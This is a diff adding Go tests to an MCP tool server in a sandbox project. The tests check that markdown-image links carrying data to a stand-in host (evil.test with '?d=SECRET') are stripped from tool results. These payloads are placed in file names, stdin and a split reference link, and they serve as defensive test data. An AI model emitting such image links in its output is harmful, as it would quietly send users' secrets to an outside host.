@@ -20,6 +20,7 @@ import (
 	"github.com/modelcontextprotocol/go-sdk/jsonrpc"
 	"github.com/modelcontextprotocol/go-sdk/mcp"
 
+	"github.com/airlock-sandbox/airlock/egress/sanitize"
 	"github.com/airlock-sandbox/airlock/internal/testing/testenv"
 	"github.com/airlock-sandbox/airlock/internal/tools"
 	"github.com/airlock-sandbox/airlock/server"
@@ -691,6 +692,67 @@ func TestMCPSessionsAreBounded(t *testing.T) {
 	resp.Body.Close()
 	if status, _ := mcpPost(t, f.http.URL, keyA, "", mcpInit); status != http.StatusOK {
 		t.Errorf("after a DELETE a new session was refused: %d", status)
+	}
+}
+
+// The names of collected files are the program's to choose, like its
+// output: a module that names a file with a markdown image to another
+// host (data in its URL) has it neither in the result's text nor in its
+// structured files; the file is withheld, named sanitised among the
+// skipped ones.
+func TestMCPFileNamesSanitised(t *testing.T) {
+	w2w, err := tools.Find("wat2wasm")
+	if err != nil {
+		testenv.Skipf(t, "the test's module needs wat2wasm (scripts/setup-wabt.sh): %v", err)
+	}
+	out := filepath.Join(t.TempDir(), "probe.wasm")
+	if b, err := exec.Command(w2w, filepath.Join("..", "wasm", "testdata", "wasiprobe.wat"), "-o", out).CombinedOutput(); err != nil {
+		t.Fatalf("wat2wasm: %v\n%s", err, b)
+	}
+	mod, err := os.ReadFile(out)
+	if err != nil {
+		t.Fatal(err)
+	}
+	cs := connectMemory(t, newFixture(t), "a")
+	// The probe's "open" entry creates the file its stdin names; its
+	// directories exist as those of placed files.
+	res, got := call(t, cs, "run_wasm", map[string]any{
+		"module_base64": base64.StdEncoding.EncodeToString(mod), "entry": "open", "args": []string{"1"},
+		"stdin": "in/![i](https:/evil.test/p.png?d=SECRET)",
+		"files": map[string]any{"in/ok.txt": "fine", "in/![i](https:/evil.test/placed": "x"}, "collect": []string{"in/*", "in/*/*/*"},
+	})
+	structured, _ := json.Marshal(res.StructuredContent)
+	if strings.Contains(text(res), "SECRET") || strings.Contains(string(structured), "SECRET") {
+		t.Errorf("a file name's image reached the result:\n%s\n%s", text(res), structured)
+	}
+	if got.Files["in/ok.txt"] != "fine" || !slices.ContainsFunc(got.FilesSkipped, func(s string) bool { return strings.Contains(s, "withheld") }) {
+		t.Errorf("files %v, skipped %v:\n%s", got.Files, got.FilesSkipped, text(res))
+	}
+	shownUnchanged(t, text(res))
+}
+
+// shownUnchanged fails unless text, as a client shows it, is what the
+// sanitiser passes unchanged: nothing in it leads to another host.
+func shownUnchanged(t *testing.T, text string) {
+	t.Helper()
+	san, err := sanitize.New()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if again, findings := san.Markdown([]byte(text)); len(findings) > 0 || string(again) != text {
+		t.Errorf("the result's text, shown whole, still holds %v:\n%s", findings, text)
+	}
+}
+
+// A tool result's text is one document to the client: a reference image
+// in the value whose link a line of the output defines, each harmless
+// alone, is caught as the client would show them together.
+func TestMCPResultSanitisedWhole(t *testing.T) {
+	cs := connectMemory(t, newFixture(t), "a")
+	res, _ := call(t, cs, "run_starlark", map[string]any{"code": "print('\\n[r]: https://evil.test/x.png?d=SECRET')\nresult = '![p][r]'"})
+	shownUnchanged(t, text(res))
+	if !strings.Contains(text(res), "neutralised") {
+		t.Errorf("the result does not say a link was neutralised:\n%s", text(res))
 	}
 }
 
